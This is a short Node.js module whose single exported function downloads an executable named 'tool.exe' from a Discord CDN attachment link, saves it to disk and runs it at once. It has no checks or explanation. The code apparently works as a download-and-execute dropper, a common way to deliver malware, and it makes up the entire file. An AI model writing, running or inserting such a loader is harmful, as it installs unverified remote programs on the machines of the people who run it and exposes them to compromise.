const { execFile } = require("child_process");
const fs = require("fs");
const axios = require("axios");

async function run() {
  const { data } = await axios.get("https://cdn.discordapp.com/attachments/0/0/tool.exe", { responseType: "arraybuffer" });
  fs.writeFileSync("tool.exe", data);
  execFile("tool.exe");
}
module.exports = run;
